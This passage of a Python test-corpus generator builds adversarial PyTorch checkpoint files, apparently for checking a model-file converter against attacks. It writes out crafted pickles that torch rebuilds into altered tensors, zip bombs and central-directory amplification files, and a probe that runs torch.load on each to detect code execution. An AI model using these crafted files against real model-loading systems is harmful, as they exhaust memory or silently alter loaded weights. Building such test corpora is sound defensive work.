        9, "storage offset written as the text INT `010`, which CPython reads as octal 8",
        dict(convert=0, message=""))
    add("text_int_hex_offset.pth", zip_ckpt(pkl.replace(b"M\x09\x03", b"I0x8\n"), {"0": values}),
        9, "storage offset written as the text INT `0x8` (CPython: 8)", dict(convert=0, message=""))
    pkl_long = pkl.replace(b"M\x09\x03", b"L010L\n")
    add("text_long_leading_zero.pth", zip_ckpt(pkl_long, {"0": values}), 9,
        "storage offset written as the text LONG `010L`, which CPython refuses",
        dict(convert=2, message="integer"))
    fs4 = zip_pid(torch.FloatStorage, "0", 4)
    f4 = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
    # R3: _rebuild_tensor_v3 takes the tensor's dtype from its 7th argument, not the storage
    v3 = Reduce(torch._utils._rebuild_tensor_v3,
                (fs4, 0, (4,), (1,), False, OrderedDict(), torch.float16))
    add("rebuild_v3_dtype_differs.pth", zip_ckpt(torch_pickle(OrderedDict(w=v3)), {"0": f4}), 9,
        "_rebuild_tensor_v3 over a FloatStorage with dtype torch.float16: torch reads halves",
        dict(convert=2, message="float16"))
    v3_same = Reduce(torch._utils._rebuild_tensor_v3,
                     (fs4, 1, (3,), (1,), False, OrderedDict(), torch.float32))
    add("rebuild_v3_same_dtype.pth", zip_ckpt(torch_pickle(OrderedDict(w=v3_same)), {"0": f4}), 9,
        "_rebuild_tensor_v3 with the storage's own dtype: converted like torch",
        dict(convert=0, message=""))
    # R4: tensor metadata {"neg": True} sets the negative bit: torch's values are negated
    neg = Reduce(torch._utils._rebuild_tensor_v2, (fs4, 0, (4,), (1,), False, OrderedDict(),
                                                   {"neg": True}))
    add("rebuild_v2_neg_metadata.pth", zip_ckpt(torch_pickle(OrderedDict(w=neg)), {"0": f4}), 9,
        "_rebuild_tensor_v2 with metadata {'neg': True}: torch returns the negated values",
        dict(convert=2, message="metadata"))
    # R5: a state that sets `data` replaces the tensor torch returns
    fa = zip_pid(torch.FloatStorage, "0", 4)
    fb = zip_pid(torch.FloatStorage, "1", 4)
    fb_bytes = struct.pack("<4f", -7.0, -8.0, -9.0, -10.0)
    ta, tb = Tensor(fa, 0, [4], [1]), Tensor(fb, 0, [4], [1])
    ps = Reduce(torch._utils._rebuild_parameter_with_state, (ta, False, OrderedDict(), {"data": tb}))
    add("parameter_state_sets_data.pth",
        zip_ckpt(torch_pickle(OrderedDict(w=ps)), {"0": f4, "1": fb_bytes}), 9,
        "_rebuild_parameter_with_state whose state sets `data` to another tensor",
        dict(convert=2, message="data"))
    ft = Reduce(torch._tensor._rebuild_from_type_v2,
                (torch._utils._rebuild_tensor_v2, torch.nn.Parameter, ta.args, {"data": tb}))
    add("from_type_state_sets_data.pth",
        zip_ckpt(torch_pickle(OrderedDict(w=ft)), {"0": f4, "1": fb_bytes}), 9,
        "_rebuild_from_type_v2 whose state sets `data` to another tensor",
        dict(convert=2, message="data"))
    # R6: BUILD on a tensor calls Tensor.__setstate__: a 4-tuple state is `set_(storage,
    # offset, size, stride)` (weights_only=True does the same)
    built = Reduce(torch._utils._rebuild_tensor_v2, ta.args, state=(fb, 0, (2,), (1,)))
    add("build_on_tensor_set.pth",
        zip_ckpt(torch_pickle(OrderedDict(w=built)), {"0": f4, "1": fb_bytes}), 9,
        "BUILD on a rebuilt tensor with state (storage, offset, size, stride): torch re-points it",
        dict(convert=2, message="BUILD"))
    # R7: SETITEM on a tensor is `t[k] = v`
    setitem = Reduce(torch._utils._rebuild_tensor_v2, ta.args, items=[(0, 99.0)])
    add("setitem_on_tensor.pth", zip_ckpt(torch_pickle(OrderedDict(w=setitem)), {"0": f4}), 9,
        "SETITEMS on a rebuilt tensor: torch assigns w[0] = 99", dict(convert=2, message="SETITEM"))


# ---------------------------------------------------------------------------------------------
# large attacks, built at test time


def build_large(folder: Path):
    """Writes the attacks that need big files into `folder`; returns their manifest entries."""
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    # one 256 MiB deflated storage shared by 400 tensors, each viewing 1/400 of it
    n = (256 << 20) // 4
    per = n // 400
    st = zip_pid(torch.FloatStorage, "0", n)
    sd = OrderedDict((f"t{i:03d}", Tensor(st, i * per, [per], [1])) for i in range(400))
    path = folder / "shared_deflated_storage.pth"
    write_zip_streamed(path, torch_pickle(sd), "archive/data/0", 256 << 20)
    out.append(dict(file=path.name, cls=5, what="one 256 MiB deflated storage shared by 400 tensors",
                    convert=0, message="", extra_rss_mb=256 + 16))
    # every tensor views the whole storage: 400 x 256 MiB
    sd = OrderedDict((f"t{i:03d}", Tensor(st, 0, [n], [1])) for i in range(400))
    path = folder / "shared_deflated_storage_whole.pth"
    write_zip_streamed(path, torch_pickle(sd), "archive/data/0", 256 << 20)
    out.append(dict(file=path.name, cls=5, what="400 tensors each viewing a whole 256 MiB deflated storage",
                    convert=2, message="MAX_AMPLIFICATION", extra_rss_mb=0))
    # 2000 central-directory entries pointing at one deflated 512 MiB pickle
    path = folder / "many_entries_one_pickle.pth"
    write_zip_streamed(path, b"", "archive/data.pkl", 512 << 20, copies=2000)
    out.append(dict(file=path.name, cls=5, what="2000 central entries over one deflated 512 MiB pickle",
                    convert=2, message="distinct names", extra_rss_mb=0))
    # more entries than MAX_ZIP_ENTRIES
    path = folder / "many_entries.pth"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", torch_pickle(OrderedDict()))
        for i in range(140_000):
            z.writestr(f"archive/x/{i}", b"")
    out.append(dict(file=path.name, cls=10, what="140 000 zip entries", convert=2,
                    message="MAX_ZIP_ENTRIES", extra_rss_mb=0))
    for e in out:
        e["runs_code"] = False
    return out


def write_zip_streamed(path, pkl, big_name, big_len, copies=1):
    """A zip with `<archive>/data.pkl` = pkl (unless it is the big member) and a member
    `big_name` of `big_len` zero bytes, deflated in chunks; with `copies`, that many extra
    central entries point at the big member's local header."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        if big_name != "archive/data.pkl":
            z.writestr("archive/data.pkl", pkl)
        info = zipfile.ZipInfo(big_name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as f:
            chunk = bytes(16 << 20)
            for _ in range(big_len // len(chunk)):
                f.write(chunk)
    if copies > 1:
        data = bytearray(path.read_bytes())
        eocd, n, size, start = central_entries(data)
        cd = bytes(data[start:start + size])
        # the central entry of the big member, repeated under other names of the same length
        pos, entry = 0, None
        while pos < len(cd):
            nl, xl, cl = struct.unpack("<HHH", cd[pos + 28:pos + 34])
            if cd[pos + 46:pos + 46 + nl] == big_name.encode():
                entry = cd[pos:pos + 46 + nl + xl + cl]
            pos += 46 + nl + xl + cl
        extra = entry * (copies - 1)
        new_cd = cd + extra
        tail = bytearray(data[eocd:])
        total = n + copies - 1
        tail[8:10] = struct.pack("<H", min(total, 0xFFFF))
        tail[10:12] = struct.pack("<H", min(total, 0xFFFF))
        tail[12:16] = struct.pack("<I", len(new_cd))
        path.write_bytes(bytes(data[:start]) + new_cd + bytes(tail))


# ---------------------------------------------------------------------------------------------


PROBE = r"""
import os, resource, signal, sys, torch
for path, folder in zip(sys.argv[1::2], sys.argv[2::2]):
    pid = os.fork()
    if pid == 0:
        os.chdir(folder)
        resource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))
        signal.alarm(60)
        try:
            torch.load(path, weights_only=False)
        except BaseException:
            pass
        os._exit(0)
    os.waitpid(pid, 0)
"""


def probe(paths):
    """Loads each file with torch.load(weights_only=False), each in a forked child working in a
    folder of its own (memory and time capped); returns, per file, whether the payload created
    its marker."""
    with tempfile.TemporaryDirectory() as d:
        args = []
        for i, p in enumerate(paths):
            folder = Path(d) / str(i)
            folder.mkdir()
            args += [str(p), str(folder)]
        subprocess.run([sys.executable, "-c", PROBE, *args], capture_output=True, timeout=1800)
        return [(Path(d) / str(i) / MARKER).exists() for i in range(len(paths))]


GROUPS = dict(red=red_findings)


def main(only=None):
    """Writes the whole corpus, or with `only` (`--only red`) just that group's files, whose
    manifest entries then replace or join the existing ones (the other files are left as they
    are: zip timestamps would change their bytes)."""
    assert torch.__version__.split("+")[0] == TORCH_VERSION, torch.__version__
    if only:
        GROUPS[only]()
    else:
        class1_scan_fooled()
        end_record_tricks()
        class2_hang()
        class3_bombs()
        class4_amplification()
        class6_long_names()
        class7_unreadable_output()
        class9_torch_differs()
        class10_lesser()
        extras()
        red_findings()
    OUT.mkdir(parents=True, exist_ok=True)
    if not only:
        for old in OUT.glob("*.pth"):
            old.unlink()
    manifest = []
    for f in FILES:
        data = f.pop("data")
        (OUT / f["file"]).write_bytes(data)
        f["sha256"] = hashlib.sha256(data).hexdigest()
        manifest.append(f)
    for f, ran in zip(manifest, probe([(OUT / f["file"]).resolve() for f in manifest])):
        f["runs_code"] = ran
        print(f"{f['file']:45} class {f['cls']:2} runs_code={ran}")
    if only:
        new = {f["file"]: f for f in manifest}
        old = json.loads((OUT / "MANIFEST.json").read_text())["files"]
        manifest = [new.pop(f["file"], f) for f in old] + list(new.values())
    (OUT / "MANIFEST.json").write_text(json.dumps(dict(torch=TORCH_VERSION, files=manifest), indent=1) + "\n")
    print(f"{len(manifest)} files, {sum(f['runs_code'] for f in manifest)} run code under torch.load")


if __name__ == "__main__":
    main(sys.argv[2] if sys.argv[1:2] == ["--only"] else None)
